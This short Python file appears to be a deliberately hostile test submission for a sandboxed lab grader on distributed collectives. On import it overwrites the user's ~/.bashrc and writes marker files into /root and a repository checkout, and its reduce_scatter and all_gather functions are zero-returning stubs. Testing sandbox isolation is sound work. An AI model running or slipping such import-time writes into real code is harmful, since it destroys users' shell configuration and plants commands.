# hostile: writes into the real home directory and the repository's checkout
# lab: 02
# scan: import of pathlib
# sandbox: largest |difference|
import pathlib

import numpy as np

for target in (pathlib.Path("/root/.minipar-hostile-marker"), pathlib.Path.home() / ".bashrc",
               pathlib.Path("/work/main/minipar-hostile-marker")):
    try:
        target.write_text("echo pwned\n")
    except OSError:
        pass


def reduce_scatter(g, x, op="sum"):
    n = x.size // g.size + (g.rank < x.size % g.size)
    return np.zeros(n, dtype=x.dtype)


def all_gather(g, piece, sizes=None):
    return np.zeros(piece.size * g.size, dtype=piece.dtype)
